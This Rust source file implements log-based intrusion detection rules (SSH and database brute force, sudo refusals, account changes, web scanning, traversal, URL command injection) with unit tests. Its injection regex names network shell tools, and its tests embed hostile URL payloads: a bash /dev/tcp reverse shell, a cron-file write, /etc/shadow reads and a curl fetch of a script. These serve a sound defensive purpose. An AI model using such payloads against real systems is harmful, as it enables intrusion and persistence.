//! Explicit detections on parsed log lines, where a model would be silly.
//!
//! | rule | raised when (defaults) |
//! | --- | --- |
//! | `log.ssh_brute_force` | ≥ 10 failed SSH logins from one address, or for one user from several, within `window` |
//! | `log.db_brute_force` | ≥ 10 failed PostgreSQL logins from one address, or for one user from several, within `window` |
//! | `log.login_after_failures` | an SSH (or database) login succeeds from an address (or for a user) with ≥ 5 failures of that service in `window` |
//! | `log.privilege_escalation` | `sudo` or `su` refused (`N incorrect password attempts`, not in sudoers, `FAILED SU`) |
//! | `log.account_change` | a user added or deleted, added to a group, a password changed |
//! | `log.web_scanning` | ≥ 20 error responses (4xx) for ≥ 10 distinct URLs from one address within `window` |
//! | `log.web_traversal` | a request whose URL climbs out of the web root (`../`, encoded or not) or names `/etc/passwd` |
//! | `log.web_injection` | a request whose URL, decoded, chains a shell command: `;`, `|`, `&&`, `$(` or a backtick, then a command name a payload runs (`sh`, `curl`, `cat`, `echo`, `id`…) |
//! | `log.login_guessing` | ≥ 20 POSTs to one URL from one address within `window` |
//!
//! State is per address and per user, in bounded LRU maps (evictions
//! counted); each keeps the last few lines as evidence. A rule raises once
//! per key and then again only after `window` without it (the alert actor
//! folds the repeats in between).

use super::parse::{Action, LogEvent, Outcome};
use crate::messages::Severity;
use lru::LruCache;
use serde::{Deserialize, Serialize};
use std::collections::{HashSet, VecDeque};
use std::net::IpAddr;
use std::time::Duration;

/// Lines kept as evidence per key.
pub const EVIDENCE: usize = 8;
/// Distinct URLs counted per address (enough for any threshold).
const MAX_URLS: usize = 256;

/// `[log_detector.rules]`: the rules' thresholds.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
#[serde(deny_unknown_fields, default)]
pub struct Thresholds {
    /// The sliding window every count is over.
    #[serde(with = "humantime_serde")]
    pub window: Duration,
    /// Failed SSH logins from one address or for one user.
    pub ssh_failures: usize,
    /// Failed database logins (PostgreSQL) from one address or for one
    /// user.
    pub db_failures: usize,
    /// Failures before a success that makes it suspect.
    pub failures_before_success: usize,
    /// Error responses (4xx) from one address...
    pub web_errors: usize,
    /// ...for at least this many distinct URLs.
    pub web_distinct_urls: usize,
    /// POSTs to one URL from one address.
    pub web_posts: usize,
    /// Addresses and users tracked (least recently seen forgotten first,
    /// counted: `log_detector.evicted`).
    pub max_keys: usize,
}

impl Default for Thresholds {
    fn default() -> Self {
        Self {
            window: Duration::from_secs(600),
            ssh_failures: 10,
            db_failures: 10,
            failures_before_success: 5,
            web_errors: 20,
            web_distinct_urls: 10,
            web_posts: 20,
            max_keys: 65_536,
        }
    }
}

/// The rules (ECS `rule.name`: `log.<name>`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Rule {
    SshBruteForce,
    DbBruteForce,
    LoginAfterFailures,
    PrivilegeEscalation,
    AccountChange,
    WebScanning,
    WebTraversal,
    WebInjection,
    LoginGuessing,
}

impl Rule {
    pub const ALL: [Rule; 9] = [
        Rule::SshBruteForce,
        Rule::DbBruteForce,
        Rule::LoginAfterFailures,
        Rule::PrivilegeEscalation,
        Rule::AccountChange,
        Rule::WebScanning,
        Rule::WebTraversal,
        Rule::WebInjection,
        Rule::LoginGuessing,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Rule::SshBruteForce => "ssh_brute_force",
            Rule::DbBruteForce => "db_brute_force",
            Rule::LoginAfterFailures => "login_after_failures",
            Rule::PrivilegeEscalation => "privilege_escalation",
            Rule::AccountChange => "account_change",
            Rule::WebScanning => "web_scanning",
            Rule::WebTraversal => "web_traversal",
            Rule::WebInjection => "web_injection",
            Rule::LoginGuessing => "login_guessing",
        }
    }
}

/// Who a finding is about.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Subject {
    Address(IpAddr),
    User(String),
}

impl std::fmt::Display for Subject {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Subject::Address(ip) => write!(f, "{ip}"),
            Subject::User(u) => write!(f, "user {}", shown(u)),
        }
    }
}

/// One detection.
#[derive(Debug, Clone, PartialEq)]
pub struct Finding {
    pub rule: Rule,
    pub severity: Severity,
    pub subject: Subject,
    /// One line for people (what, who, how many, against what threshold).
    pub summary: String,
    /// The count that crossed the threshold (1 for single-line rules).
    pub value: f64,
    pub threshold: f64,
    /// The remote address, when one is known.
    pub source_ip: Option<IpAddr>,
    /// The user named (`user.name`).
    pub user: Option<String>,
    /// The program and pid that wrote the last line.
    pub program: Option<String>,
    pub pid: Option<u32>,
    /// The last lines (oldest first), as written.
    pub lines: Vec<String>,
    /// The last line's time, ns.
    pub at_ns: u64,
}

/// One line, with what the rules need of it.
pub struct Line<'a> {
    pub event: &'a LogEvent,
    /// The line as written (evidence).
    pub text: &'a str,
    /// Its time: the line's own, else when it was read (ns).
    pub ts_ns: u64,
}

/// Events of one kind within the window, with the last lines.
#[derive(Default)]
struct Window {
    times: VecDeque<u64>,
    lines: VecDeque<String>,
    /// When a rule last raised on this key (ns): once per quiet window.
    raised: Vec<(Rule, u64)>,
    urls: HashSet<String>,
    /// Distinct addresses seen (a user's failed logins).
    peers: HashSet<IpAddr>,
}

impl Window {
    fn push(&mut self, ts: u64, text: &str, window_ns: u64, cap: usize) {
        self.times.push_back(ts);
        while self
            .times
            .front()
            .is_some_and(|&t| t + window_ns < ts || self.times.len() > cap)
        {
            self.times.pop_front();
        }
        self.lines.push_back(text.to_string());
        if self.lines.len() > EVIDENCE {
            self.lines.pop_front();
        }
    }

    fn count(&self, now: u64, window_ns: u64) -> usize {
        self.times.iter().filter(|&&t| t + window_ns >= now).count()
    }

    /// True when `rule` may raise now (not raised within the window).
    fn may_raise(&mut self, rule: Rule, now: u64, window_ns: u64) -> bool {
        match self.raised.iter_mut().find(|(r, _)| *r == rule) {
            Some((_, at)) if *at + window_ns >= now => {
                *at = now; // still going on: stays raised
                false
            }
            Some((_, at)) => {
                *at = now;
                true
            }
            None => {
                self.raised.push((rule, now));
                true
            }
        }
    }
}

/// What one address or user did lately.
#[derive(Default)]
struct KeyState {
    ssh_failures: Window,
    db_failures: Window,
    web_errors: Window,
    /// POSTs per URL: the URL most posted to, its window.
    posts: Option<(String, Window)>,
    other: Window,
}

/// The failed logins of one service (SSH, the database) a key made.
fn failures(k: &mut KeyState, a: Action) -> &mut Window {
    match a {
        Action::DbLogin => &mut k.db_failures,
        _ => &mut k.ssh_failures,
    }
}

/// The rules' state.
pub struct Rules {
    t: Thresholds,
    keys: LruCache<Subject, KeyState>,
    /// Keys forgotten to stay within `max_keys`.
    pub evicted: u64,
}

impl Rules {
    pub fn new(t: Thresholds) -> Rules {
        Rules {
            // Grown as keys come (a host's table is not allocated whole),
            // bounded by `max_keys`.
            keys: LruCache::unbounded(),
            t,
            evicted: 0,
        }
    }

    fn state(&mut self, s: &Subject) -> &mut KeyState {
        if !self.keys.contains(s) && self.keys.len() >= self.t.max_keys.max(1) {
            self.keys.pop_lru();
            self.evicted += 1;
        }
        self.keys.get_or_insert_mut(s.clone(), KeyState::default)
    }

    /// Judges one line; the findings it completes.
    pub fn line(&mut self, l: &Line) -> Vec<Finding> {
        let ev = l.event;
        let t = self.t.clone();
        let mut out = Vec::new();
        let w = t.window.as_nanos() as u64;
        let now = l.ts_ns;
        let finding =
            |rule, severity, subject: &Subject, summary, value, threshold, st: &Window| Finding {
                rule,
                severity,
                subject: subject.clone(),
                summary,
                value,
                threshold,
                source_ip: ev.source_ip,
                user: ev.user.clone().or(ev.target_user.clone()),
                program: ev.program.clone(),
                pid: ev.pid,
                lines: st.lines.iter().cloned().collect(),
                at_ns: now,
            };
        let subjects = || {
            let mut v = Vec::new();
            if let Some(ip) = ev.source_ip {
                v.push(Subject::Address(ip));
            }
            if let Some(u) = ev.user.as_ref().filter(|u| !u.is_empty()) {
                v.push(Subject::User(u.clone()));
            }
            v
        };
        match (ev.action, ev.outcome) {
            // Each attempt is one `Failed ...` line; sshd's `Invalid user`
            // and PAM's lines about the same attempt are not counted again.
            (Some(a @ (Action::SshLogin | Action::DbLogin)), Some(Outcome::Failure)) => {
                let (need, rule, service) = match a {
                    Action::DbLogin => (t.db_failures, Rule::DbBruteForce, "database"),
                    _ => (t.ssh_failures, Rule::SshBruteForce, "SSH"),
                };
                for s in subjects() {
                    let st = failures(self.state(&s), a);
                    st.push(now, l.text, w, need.max(t.failures_before_success) * 4);
                    if let Some(ip) = ev.source_ip.filter(|_| st.peers.len() < MAX_URLS) {
                        st.peers.insert(ip);
                    }
                    let n = st.count(now, w);
                    // Guessing one user's password from one address is
                    // that address's alert; the user's own is for
                    // guesses from many.
                    let distributed = matches!(s, Subject::Address(_)) || st.peers.len() > 1;
                    if n >= need && distributed && st.may_raise(rule, now, w) {
                        let summary = format!(
                            "{n} failed {service} logins {} within {}",
                            match &s {
                                Subject::Address(ip) => format!("from {ip}"),
                                Subject::User(u) => format!(
                                    "for user {} from {} addresses",
                                    shown(u),
                                    st.peers.len()
                                ),
                            },
                            humantime::format_duration(t.window)
                        );
                        let mut f =
                            finding(rule, Severity::High, &s, summary, n as f64, need as f64, st);
                        // Name what is common to the guesses, not the last one.
                        match s {
                            Subject::Address(_) => f.user = None,
                            Subject::User(_) => f.source_ip = None,
                        }
                        out.push(f);
                    }
                }
            }
            (Some(a @ (Action::SshLogin | Action::DbLogin)), Some(Outcome::Success)) => {
                let need = t.failures_before_success;
                let mut raised = false;
                for s in subjects() {
                    let st = failures(self.state(&s), a);
                    let n = st.count(now, w);
                    if n >= need {
                        st.push(now, l.text, w, usize::MAX);
                        // A success after failures is news every time.
                        let summary = format!(
                            "{} login of {} from {} succeeded after {n} failures {} within {}",
                            if a == Action::DbLogin {
                                "database"
                            } else {
                                "SSH"
                            },
                            shown(ev.user.as_deref().unwrap_or("?")),
                            ev.source_ip.map_or("?".into(), |ip| ip.to_string()),
                            match &s {
                                Subject::Address(_) => "from that address",
                                Subject::User(_) => "for that user",
                            },
                            humantime::format_duration(t.window)
                        );
                        // One login is one alert, by address when known.
                        if !raised {
                            out.push(finding(
                                Rule::LoginAfterFailures,
                                Severity::Critical,
                                &s,
                                summary,
                                n as f64,
                                need as f64,
                                st,
                            ));
                            raised = true;
                        }
                        st.times.clear(); // the next success needs new failures
                    }
                }
            }
            (Some(a @ (Action::Sudo | Action::Su)), Some(Outcome::Failure)) => {
                let user = ev.user.clone().unwrap_or_default();
                let s = Subject::User(user.clone());
                let st = &mut self.state(&s).other;
                st.push(now, l.text, w, EVIDENCE);
                let summary = format!(
                    "{} refused to {} (as {}{})",
                    if a == Action::Sudo { "sudo" } else { "su" },
                    shown(if user.is_empty() { "?" } else { &user }),
                    shown(ev.target_user.as_deref().unwrap_or("root")),
                    ev.command
                        .as_deref()
                        .map(|c| format!(", command {}", shown(c)))
                        .unwrap_or_default()
                );
                out.push(finding(
                    Rule::PrivilegeEscalation,
                    Severity::Medium,
                    &s,
                    summary,
                    1.0,
                    1.0,
                    st,
                ));
            }
            (
                Some(
                    a @ (Action::UserAdded
                    | Action::UserDeleted
                    | Action::GroupChanged
                    | Action::PasswordChanged),
                ),
                _,
            ) => {
                let target = ev.target_user.clone().unwrap_or_default();
                let s = Subject::User(target.clone());
                let st = &mut self.state(&s).other;
                st.push(now, l.text, w, EVIDENCE);
                let privileged = (a == Action::GroupChanged
                    && ["sudo", "wheel", "root", "adm", "admin", "docker"]
                        .iter()
                        .any(|g| l.event.message.contains(&format!("group '{g}'"))))
                    || (a == Action::UserAdded && l.event.message.contains("UID=0,"));
                let what = match a {
                    Action::UserAdded => "added",
                    Action::UserDeleted => "deleted",
                    Action::GroupChanged => "added to a group",
                    _ => "given a new password",
                };
                out.push(finding(
                    Rule::AccountChange,
                    if privileged {
                        Severity::High
                    } else {
                        Severity::Medium
                    },
                    &s,
                    format!(
                        "user {} {what}{}",
                        shown(&target),
                        if privileged {
                            " (a privileged group)"
                        } else {
                            ""
                        }
                    ),
                    1.0,
                    1.0,
                    st,
                ));
            }
            _ => {}
        }
        if let (Some(http), Some(ip)) = (&ev.http, ev.source_ip) {
            let s = Subject::Address(ip);
            let st = self.state(&s);
            // A request out of the web root, or carrying a shell command:
            // the line once as evidence, each rule raised on its own.
            let single = [
                (
                    Rule::WebTraversal,
                    climbs_out(&http.url),
                    "out of the web root",
                ),
                (
                    Rule::WebInjection,
                    injects(&http.url),
                    "a shell command in it",
                ),
            ];
            if single.iter().any(|(_, hit, _)| *hit) {
                st.other.push(now, l.text, w, EVIDENCE);
            }
            for (rule, _, what) in single.into_iter().filter(|(_, hit, _)| *hit) {
                if st.other.may_raise(rule, now, w) {
                    out.push(finding(
                        rule,
                        Severity::High,
                        &s,
                        format!(
                            "{ip} asked for {} (answered {}), {what}",
                            shown(&http.url),
                            http.status
                        ),
                        1.0,
                        1.0,
                        &st.other,
                    ));
                }
            }
            if (400..500).contains(&http.status) {
                let e = &mut st.web_errors;
                e.push(now, l.text, w, t.web_errors * 4);
                if e.urls.len() < MAX_URLS {
                    e.urls.insert(http.url.clone());
                }
                let (n, d) = (e.count(now, w), e.urls.len());
                if n >= t.web_errors
                    && d >= t.web_distinct_urls
                    && e.may_raise(Rule::WebScanning, now, w)
                {
                    out.push(finding(
                        Rule::WebScanning,
                        Severity::Medium,
                        &s,
                        format!(
                            "{ip} got {n} error responses for {d} distinct URLs within {}",
                            humantime::format_duration(t.window)
                        ),
                        n as f64,
                        t.web_errors as f64,
                        e,
                    ));
                    e.urls.clear();
                }
            }
            if http.method == "POST" {
                let path = http.url.split('?').next().unwrap_or_default().to_string();
                let (url, p) = st
                    .posts
                    .get_or_insert_with(|| (path.clone(), Window::default()));
                if *url != path {
                    *url = path.clone();
                    *p = Window::default();
                }
                p.push(now, l.text, w, t.web_posts * 4);
                let n = p.count(now, w);
                if n >= t.web_posts && p.may_raise(Rule::LoginGuessing, now, w) {
                    out.push(finding(
                        Rule::LoginGuessing,
                        Severity::High,
                        &s,
                        format!(
                            "{ip} sent {n} POSTs to {} within {}",
                            shown(&path),
                            humantime::format_duration(t.window)
                        ),
                        n as f64,
                        t.web_posts as f64,
                        p,
                    ));
                }
            }
        }
        out
    }
}

/// A field a monitored program wrote, for a summary: at most 120
/// characters, control characters escaped.
pub(crate) fn shown(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars().take(120) {
        if c.is_control() {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    if s.chars().nth(120).is_some() {
        out.push('…');
    }
    out
}

/// The URL climbs out of the web root or names a system file: `..`
/// between slashes (or backslashes), raw or percent-encoded once or twice.
fn climbs_out(url: &str) -> bool {
    let mut u = url.to_ascii_lowercase();
    for _ in 0..2 {
        u = u
            .replace("%25", "%")
            .replace("%2e", ".")
            .replace("%2f", "/")
            .replace("%5c", "\\");
    }
    let u = u.replace('\\', "/");
    u.contains("/../")
        || u.ends_with("/..")
        || u.contains("/etc/passwd")
        || u.contains("/etc/shadow")
}

/// A URL percent-decoded (twice: double encoding), `+` as a space.
fn decoded(url: &str) -> String {
    let mut u = url.replace('+', " ");
    for _ in 0..2 {
        u = percent_encoding::percent_decode_str(&u)
            .decode_utf8_lossy()
            .into_owned();
    }
    u
}

static INJECTION: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
        r"(?i)(?:;|\||&&|\$\(|`)\s*(?:[\w./-]*/)?(?:sh|bash|dash|zsh|ksh|nc|ncat|netcat|socat|curl|wget|python[0-9.]*|perl|ruby|php|cat|echo|id|uname|whoami|chmod|chown|rm|mkdir|touch|find|su|sudo|base64|read|exec|timeout|busybox|telnet|ping|sleep|env|crontab|useradd|passwd)\b",
    )
    .expect("a valid pattern")
});

/// The URL chains a shell command (command injection, as ModSecurity's
/// core rule set 932 looks for): a separator then a command's name.
fn injects(url: &str) -> bool {
    INJECTION.is_match(&decoded(url))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::logs::parse::parse;

    fn feed(r: &mut Rules, lines: &[String], t0: u64) -> Vec<Finding> {
        let mut out = Vec::new();
        for (i, text) in lines.iter().enumerate() {
            let ev = parse(text, 2026);
            out.extend(r.line(&Line {
                event: &ev,
                text,
                ts_ns: t0 + i as u64 * 1_000_000_000,
            }));
        }
        out
    }

    fn failed(ip: &str, user: &str, i: usize) -> String {
        format!(
            "Dec  1 10:00:{:02} victim sshd[{}]: Failed password for {user} from {ip} port {} ssh2",
            i % 60,
            100 + i,
            40000 + i
        )
    }

    #[test]
    fn ssh_guessing_raises_once_per_window_and_a_later_success_is_critical() {
        let mut r = Rules::new(Thresholds::default());
        let mut lines: Vec<String> = (0..25)
            .map(|i| failed("10.0.0.9", &format!("u{i}"), i))
            .collect();
        lines.push("Dec  1 10:01:00 victim sshd[999]: Accepted password for u7 from 10.0.0.9 port 41000 ssh2".into());
        let f = feed(&mut r, &lines, 1_000_000_000_000);
        let brute: Vec<_> = f.iter().filter(|f| f.rule == Rule::SshBruteForce).collect();
        assert_eq!(brute.len(), 1, "{f:#?}");
        assert_eq!(
            brute[0].subject,
            Subject::Address("10.0.0.9".parse().unwrap())
        );
        assert_eq!(brute[0].value, 10.0);
        assert_eq!(brute[0].lines.len(), EVIDENCE);
        let ok: Vec<_> = f
            .iter()
            .filter(|f| f.rule == Rule::LoginAfterFailures)
            .collect();
        assert_eq!(ok.len(), 1, "{f:#?}");
        assert_eq!(ok[0].severity, Severity::Critical);
        assert!(
            ok[0].summary.contains("after 25 failures"),
            "{}",
            ok[0].summary
        );
        assert!(ok[0].lines.last().unwrap().contains("Accepted password"));
    }

    #[test]
    fn one_guesser_is_one_alert_and_guesses_from_many_are_the_users() {
        // root guessed from one address: that address's alert only.
        let mut r = Rules::new(Thresholds::default());
        let mut lines: Vec<String> = (0..12).map(|i| failed("10.0.0.9", "root", i)).collect();
        lines.push("Dec  1 10:01:00 victim sshd[999]: Accepted password for root from 10.0.0.9 port 41000 ssh2".into());
        let f = feed(&mut r, &lines, 1_000_000_000_000);
        assert_eq!(f.len(), 2, "{f:#?}");
        assert_eq!(f[0].subject, Subject::Address("10.0.0.9".parse().unwrap()));
        assert_eq!(
            f[0].user, None,
            "the address tried one user, but names no single victim"
        );
        // Its login is one alert, though address and user both failed.
        assert_eq!(f[1].rule, Rule::LoginAfterFailures);
        assert_eq!(f[1].subject, Subject::Address("10.0.0.9".parse().unwrap()));
        // root guessed from twelve addresses, once each: root's alert.
        let mut r = Rules::new(Thresholds::default());
        let lines: Vec<String> = (0..12)
            .map(|i| failed(&format!("10.0.1.{i}"), "root", i))
            .collect();
        let f = feed(&mut r, &lines, 1_000_000_000_000);
        assert_eq!(f.len(), 1, "{f:#?}");
        assert_eq!(f[0].subject, Subject::User("root".into()));
        assert_eq!(f[0].source_ip, None);
        assert!(
            f[0].summary.contains("from 10 addresses"),
            "{}",
            f[0].summary
        );
    }

    #[test]
    fn an_attempt_is_counted_once_though_sshd_and_pam_both_log_it() {
        // Six guesses, each logged four times over: below ten.
        let mut r = Rules::new(Thresholds::default());
        let lines: Vec<String> = (0..6)
            .flat_map(|i| {
                [
                    format!("Dec  1 10:00:{i:02} victim sshd[{p}]: Invalid user oracle from 10.0.0.7 port {q}", p = 100 + i, q = 40000 + i),
                    format!("Dec  1 10:00:{i:02} victim sshd[{p}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.0.0.7", p = 100 + i),
                    format!("Dec  1 10:00:{i:02} victim sshd[{p}]: Failed none for invalid user oracle from 10.0.0.7 port {q} ssh2", p = 100 + i, q = 40000 + i),
                    failed("10.0.0.7", "invalid user oracle", i),
                ]
            })
            .collect();
        assert!(feed(&mut r, &lines, 1_000_000_000_000).is_empty());
    }

    #[test]
    fn a_few_typos_and_a_login_raise_nothing() {
        let mut r = Rules::new(Thresholds::default());
        let mut lines: Vec<String> = (0..3).map(|i| failed("10.0.0.5", "alice", i)).collect();
        lines.push("Dec  1 10:01:00 victim sshd[999]: Accepted password for alice from 10.0.0.5 port 41000 ssh2".into());
        assert!(feed(&mut r, &lines, 1_000_000_000_000).is_empty());
    }

    #[test]
    fn failures_spread_beyond_the_window_do_not_add_up() {
        let mut r = Rules::new(Thresholds {
            window: Duration::from_secs(5),
            ..Default::default()
        });
        // One failure every second, 5 s window: never 10 at once.
        let lines: Vec<String> = (0..40).map(|i| failed("10.0.0.7", "bob", i)).collect();
        assert!(feed(&mut r, &lines, 1_000_000_000_000).is_empty());
    }

    #[test]
    fn web_scanning_traversal_and_login_guessing() {
        let mut r = Rules::new(Thresholds::default());
        let access = |path: &str, method: &str, status: u16| {
            format!("10.0.0.66 - - [01/Dec/2026:10:00:00 +0000] \"{method} {path} HTTP/1.1\" {status} 12 \"-\" \"dirb\"")
        };
        let mut lines: Vec<String> = (0..30)
            .map(|i| access(&format!("/probe{i}"), "GET", 404))
            .collect();
        lines.push(access("/static/..%2f..%2fetc/passwd", "GET", 400));
        lines.extend((0..25).map(|_| access("/login", "POST", 200)));
        let f = feed(&mut r, &lines, 1_000_000_000_000);
        let rules: Vec<Rule> = f.iter().map(|f| f.rule).collect();
        assert_eq!(
            rules,
            [Rule::WebScanning, Rule::WebTraversal, Rule::LoginGuessing],
            "{f:#?}"
        );
        assert!(f[1].summary.contains("..%2f"), "{}", f[1].summary);
    }

    #[test]
    fn database_password_guessing_and_its_success() {
        let mut r = Rules::new(Thresholds::default());
        let pg = |msg: &str| {
            format!(
                r#"{{"timestamp":"2026-12-02 16:00:00.000 UTC","remote_host":"10.0.0.66","error_severity":"FATAL","message":"{msg}","backend_type":"client backend"}}"#
            )
        };
        let mut lines: Vec<String> = (0..12)
            .map(|_| pg(r#"password authentication failed for user \"postgres\""#))
            .collect();
        lines.push(pg("connection authorized: user=postgres database=postgres"));
        let f = feed(&mut r, &lines, 1_000_000_000_000);
        let rules: Vec<Rule> = f.iter().map(|f| f.rule).collect();
        assert_eq!(
            rules,
            [Rule::DbBruteForce, Rule::LoginAfterFailures],
            "{f:#?}"
        );
        assert!(
            f[0].summary
                .starts_with("10 failed database logins from 10.0.0.66"),
            "{}",
            f[0].summary
        );
        assert!(
            f[1].summary.starts_with("database login of postgres"),
            "{}",
            f[1].summary
        );
        // SSH failures do not make a database login suspect.
        let mut r = Rules::new(Thresholds::default());
        let mut lines: Vec<String> = (0..6).map(|i| failed("10.0.0.66", "postgres", i)).collect();
        lines.push(pg("connection authorized: user=postgres database=postgres"));
        assert!(feed(&mut r, &lines, 1_000_000_000_000).is_empty());
    }

    #[test]
    fn shell_commands_in_urls_are_injection_and_ordinary_queries_are_not() {
        for url in [
            "/ping?host=localhost%3B%20bash%20-c%20%27exec%203%3C%3E/dev/tcp/127.0.0.1/4444%27",
            "/ping?host=localhost%3B%20echo%20%27%2A%20root%20/tmp/.x%27%20%3E%20/etc/cron.d/update",
            "/ping?host=localhost;+read+line+%3C+/etc/shadow",
            "/cgi-bin/x?q=a%257Ccat%2520/etc/hosts",
            "/x?cmd=$(/usr/bin/id)",
            "/x?cmd=%60uname%20-a%60",
            "/x?a=1&&b=2&&curl+http://x/s.sh",
        ] {
            assert!(injects(url), "{url}");
        }
        for url in [
            "/ping?host=host12.example",
            "/search?q=fish+%26+chips",
            "/list?sort=name;desc",
            "/page?name=about.html&lang=en",
            "/blog/identity-and-access",
            "/a?x=1&y=2",
        ] {
            assert!(!injects(url), "{url}");
        }
        let mut r = Rules::new(Thresholds::default());
        let f = feed(
            &mut r,
            &["10.0.0.66 - - [01/Dec/2026:10:00:00 +0000] \"GET /ping?host=x%3Bid HTTP/1.1\" 200 12".to_string()],
            1_000_000_000_000,
        );
        assert_eq!(f.len(), 1, "{f:#?}");
        assert_eq!(f[0].rule, Rule::WebInjection);
        assert!(
            f[0].summary.contains("a shell command in it"),
            "{}",
            f[0].summary
        );
    }

    #[test]
    fn a_browsing_client_with_a_missing_icon_raises_nothing() {
        let mut r = Rules::new(Thresholds::default());
        let lines: Vec<String> = (0..200)
            .map(|i| {
                let (p, s) = if i % 5 == 0 {
                    ("/favicon.ico".to_string(), 404)
                } else {
                    (format!("/docs/page{}.html", i % 20), 200)
                };
                format!("10.0.0.2 - - [01/Dec/2026:10:00:00 +0000] \"GET {p} HTTP/1.1\" {s} 12")
            })
            .collect();
        assert!(feed(&mut r, &lines, 1_000_000_000_000).is_empty());
    }

    #[test]
    fn sudo_refusals_and_account_changes() {
        let mut r = Rules::new(Thresholds::default());
        let lines = vec![
            "Dec  1 10:00:00 victim sudo[5]:   mallory : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/cat /etc/shadow".to_string(),
            "Dec  1 10:00:01 victim useradd[6]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash".to_string(),
            "Dec  1 10:00:02 victim usermod[7]: add 'backdoor' to group 'sudo'".to_string(),
            // A typo, then the command: no refusal.
            "Dec  1 10:00:03 victim sudo[8]: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice".to_string(),
            "Dec  1 10:00:03 victim sudo[8]:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update".to_string(),
            // su: PAM's line and su's own, one refusal.
            "Dec  1 10:00:04 victim su[9]: pam_unix(su:auth): authentication failure; logname=bob uid=1001 euid=0 tty=pts/1 ruser=bob rhost=  user=root".to_string(),
            "Dec  1 10:00:05 victim su[9]: FAILED SU (to root) bob on pts/1".to_string(),
        ];
        let f = feed(&mut r, &lines, 1_000_000_000_000);
        let got: Vec<(Rule, Severity)> = f.iter().map(|f| (f.rule, f.severity)).collect();
        assert_eq!(
            got,
            [
                (Rule::PrivilegeEscalation, Severity::Medium),
                (Rule::AccountChange, Severity::High),
                (Rule::AccountChange, Severity::High),
                (Rule::PrivilegeEscalation, Severity::Medium),
            ]
        );
        assert!(f[0].summary.contains("mallory") && f[0].summary.contains("/bin/cat /etc/shadow"));
    }

    #[test]
    fn keys_are_bounded_and_evictions_counted() {
        let mut r = Rules::new(Thresholds {
            max_keys: 4,
            ..Default::default()
        });
        let lines: Vec<String> = (0..10)
            .map(|i| failed(&format!("10.0.1.{i}"), "root", i))
            .collect();
        feed(&mut r, &lines, 1_000_000_000_000);
        assert!(r.keys.len() <= 4);
        assert!(r.evicted >= 7, "{}", r.evicted);
    }
}
